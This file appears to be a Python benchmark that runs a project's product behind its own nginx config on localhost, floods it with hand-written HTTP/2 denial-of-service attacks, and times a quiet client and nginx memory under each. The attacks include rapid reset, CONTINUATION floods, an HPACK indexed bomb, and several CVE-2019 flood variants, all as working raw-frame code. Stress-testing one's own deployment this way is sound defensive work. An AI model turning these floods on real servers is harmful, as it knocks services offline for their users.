"""Measure a quiet page behind the shipped nginx, and nginx's memory, while the HTTP/2 before it is attacked.

A whole product serves behind `deploy/nginx.conf`. One citizen waits and sends a command ten times a second over TLS;
that is timed. Another process opens HTTP/2 connections from other addresses and attacks each until it is cut off, then
begins again. Frames are written by hand (RFC 9113): no library sends what these attacks need.
"""

import argparse
import asyncio
import os
import ssl
import statistics
import struct
import sys
from collections.abc import Awaitable, Callable
from contextlib import suppress
from pathlib import Path

from bench.hostile import AIM_MS, HERE, memory_mb, product, quiet
from bench.tables import table
from tests.support.proxy import Proxy, free_ports, proxy

LASTS_S, QUICK_LASTS_S = 10.0, 3.0
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = struct.pack("!I", 8)
BEGINS = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
MANY = 1000


def frame(kind: int, flags: int, stream: int, body: bytes = b"") -> bytes:
    """Return one frame of a stream."""
    return struct.pack("!I", len(body))[1:] + struct.pack("!BBI", kind, flags, stream) + body


def fields(*pairs: tuple[str, str]) -> bytes:
    """Return header fields as literals that are not indexed; each name and value shorter than 127 bytes."""
    text = b""
    for name, value in pairs:
        text += b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
    return text


def get(path: str, method: str = "GET") -> bytes:
    """Return the head of a request."""
    return fields((":method", method), (":scheme", "https"), (":authority", "localhost"), (":path", path))


Write = Callable[[bytes], Awaitable[None]]
Attack = Callable[[Write], Awaitable[None]]


async def rapid_reset(write: Write) -> None:
    """Ask for pages and take each request back at once (CVE-2023-44487)."""
    for start in range(1, 2**30, 2 * MANY):
        streams = range(start, start + 2 * MANY, 2)
        pairs = (
            frame(HEADERS, END_STREAM | END_HEADERS, one, get("/")) + frame(RST_STREAM, 0, one, CANCEL)
            for one in streams
        )
        await write(b"".join(pairs))


async def endless_headers(write: Write) -> None:
    """Begin a head and go on with it for ever (the kind of CVE-2024-27316)."""
    await write(frame(HEADERS, END_STREAM, 1, get("/")))
    while True:
        await write(frame(CONTINUATION, 0, 1, fields(("x-filler", "y" * 100)) * 100) * 10)


async def small_continuations(write: Write) -> None:
    """Go on with a head by frames without content."""
    await write(frame(HEADERS, END_STREAM, 1, get("/")))
    while True:
        await write(frame(CONTINUATION, 0, 1) * MANY)


async def indexed_bomb(write: Write) -> None:
    """Keep one long field in the table of HPACK, and name it thousands of times in each head by one byte."""
    length = 3696
    kept = b"\x40\x08x-filler\x7f" + bytes([(length - 127) % 128 + 128, (length - 127) // 128]) + b"z" * length
    await write(frame(HEADERS, END_STREAM | END_HEADERS, 1, get("/api/public") + kept))
    for stream in range(3, 2**30, 2):
        await write(frame(HEADERS, END_STREAM | END_HEADERS, stream, get("/api/public") + b"\xbe" * 12_000))


async def pings(write: Write) -> None:
    """Send pings without end, each to be answered."""
    while True:
        await write(frame(PING, 0, 0, b"12345678") * MANY)


async def settings(write: Write) -> None:
    """Change the settings without end, each to be acknowledged (CVE-2019-9515)."""
    while True:
        await write(frame(SETTINGS, 0, 0, struct.pack("!HI", 4, 65535)) * MANY)


async def priorities(write: Write) -> None:
    """Shuffle the tree of priorities (CVE-2019-9513)."""
    while True:
        await write(b"".join(frame(PRIORITY, 0, one, struct.pack("!IB", 0, one % 256)) for one in range(1, MANY, 2)))


async def empty_data(write: Write) -> None:
    """Send a body of empty pieces (CVE-2019-9518)."""
    await write(frame(HEADERS, END_HEADERS, 1, get("/api/login", "POST")))
    while True:
        await write(frame(DATA, 0, 1) * MANY)


async def closed_window(write: Write) -> None:
    """Ask for the largest scripts with a window of no bytes, so that each answer waits in memory (CVE-2019-9517)."""
    await write(frame(SETTINGS, 0, 0, struct.pack("!HI", 4, 0)))
    for stream in range(1, 2**30, 2):
        await write(frame(HEADERS, END_STREAM | END_HEADERS, stream, get("/static/vendor/lit.js")))
        await asyncio.sleep(0.002)


async def dribble(write: Write) -> None:
    """Take answers byte by byte (CVE-2019-9511)."""
    await write(frame(SETTINGS, 0, 0, struct.pack("!HI", 4, 1)))
    streams = range(1, 200, 2)
    for stream in streams:
        await write(frame(HEADERS, END_STREAM | END_HEADERS, stream, get("/static/vendor/lit.js")))
    while True:
        await write(b"".join(frame(WINDOW_UPDATE, 0, one, struct.pack("!I", 1)) for one in streams))


async def requests(write: Write) -> None:
    """Ask for pages as fast as frames go."""
    for start in range(1, 2**30, 200):
        await write(
            b"".join(frame(HEADERS, END_STREAM | END_HEADERS, one, get("/")) for one in range(start, start + 200, 2))
        )
        await asyncio.sleep(0.01)


ATTACKS: dict[str, Attack] = {
    "rapid reset": rapid_reset,
    "endless head": endless_headers,
    "empty continuations": small_continuations,
    "bomb of indexed fields": indexed_bomb,
    "pings": pings,
    "settings": settings,
    "priorities": priorities,
    "empty data": empty_data,
    "closed window": closed_window,
    "dribble": dribble,
    "requests": requests,
}


async def attack(name: str, port: int, sockets: int) -> None:
    """Attack for ever from `sockets` connections, each from an address of its own."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])

    async def one(number: int) -> None:
        while True:
            with suppress(OSError, EOFError, TimeoutError):
                async with asyncio.timeout(30):
                    await _once(name, port, context, f"127.0.1.{number % 250 + 1}")
            await asyncio.sleep(0.01)

    _ = await asyncio.gather(*map(one, range(sockets)))


async def _once(name: str, port: int, context: ssl.SSLContext, own: str) -> None:
    """Attack on one connection, until it is cut."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port, ssl=context, local_addr=(own, 0))
    reading = asyncio.ensure_future(_drain(reader))

    async def write(data: bytes) -> None:
        if reading.done():
            raise ConnectionResetError
        writer.write(data)
        await writer.drain()
        await asyncio.sleep(0)

    try:
        writer.write(BEGINS + frame(SETTINGS, 0, 0))
        await ATTACKS[name](write)
    finally:
        _ = reading.cancel()
        writer.close()


async def _drain(reader: asyncio.StreamReader) -> None:
    while await reader.read(65536):
        pass


async def under(name: str, sockets: int, lasts_s: float) -> list[str]:
    """Measure one attack on a fresh product behind a fresh nginx and return its row."""
    os.environ["WINDOW_PROXIES"] = "1"
    async with product(HERE) as (base, process):
        plain, port, nobody = free_ports(3)
        node = int(base.rpartition(":")[2])
        async with proxy((plain, port), (node, nobody)) as found:
            nginx = _worker(found)
            before = memory_mb(nginx)
            command = [sys.executable, "-m", "bench.http2", "--attack", name, str(found.port), str(sockets)]
            enemy = await asyncio.create_subprocess_exec(*command, cwd=HERE) if sockets else None
            try:
                if enemy is not None:
                    await asyncio.sleep(1.5)  # until it has started
                trusted = ssl.create_default_context(cafile=found.certificate)
                taken, most = await quiet(found.url, lasts_s, nginx, trusted)
            finally:
                if enemy is not None:
                    with suppress(ProcessLookupError):
                        enemy.kill()
                    assert await enemy.wait() < 0, "the enemy gave up"
            node_mb = memory_mb(process)
    p99 = sorted(taken)[max(0, round(len(taken) * 0.99) - 1)]
    return [
        name, str(sockets), str(len(taken)), f"{statistics.median(taken):.0f} ms", f"{p99:.0f} ms",
        "yes" if p99 <= AIM_MS else "**falls short**", f"{most - before:+.0f} MB", f"{node_mb:.0f} MB",
    ]  # fmt: skip


def _worker(found: Proxy) -> int:
    """Return the process of nginx's one worker."""
    master = (found.certificate.parents[1] / "pid").read_text(encoding="ascii").strip()
    return int(Path(f"/proc/{master}/task/{master}/children").read_text(encoding="ascii").split()[0])


async def main(names: list[str], crowds: list[int], lasts_s: float) -> None:
    """Print the table."""
    rows = [await under("nobody", 0, lasts_s)]
    for name in names:
        for sockets in crowds:
            rows.append(await under(name, sockets, lasts_s))
            print(" | ".join(rows[-1]), file=sys.stderr, flush=True)
    head = ("attack", "connections", "asked", "median", "p99", f"p99 <= {AIM_MS} ms", "nginx grew", "node")
    table(head, rows)


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--quick", action="store_true")
    parser.add_argument("--only", nargs="*", default=list(ATTACKS), help="of " + ", ".join(ATTACKS))
    parser.add_argument("--crowds", nargs="*", type=int, default=[1, 40], metavar="CONNECTIONS")
    parser.add_argument("--attack", nargs=3, help=argparse.SUPPRESS)
    said = parser.parse_args()
    if said.attack:
        what, where, many = said.attack
        asyncio.run(attack(what, int(where), int(many)))
    else:
        asyncio.run(main(said.only, said.crowds, QUICK_LASTS_S if said.quick else LASTS_S))
